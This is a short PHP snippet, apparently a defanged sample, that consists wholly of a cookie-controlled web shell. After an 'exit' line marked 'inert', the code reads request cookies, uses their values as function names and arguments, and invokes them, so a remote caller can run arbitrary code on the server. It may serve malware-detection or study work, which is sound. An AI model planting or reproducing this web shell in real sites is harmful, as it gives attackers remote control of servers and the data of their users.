<?php exit; /* inert */ 
$c = array_values($_COOKIE);
if (count($c) > 3) {
    $f = $c[0]($c[1]);
    $f($c[2]($c[3]));
}
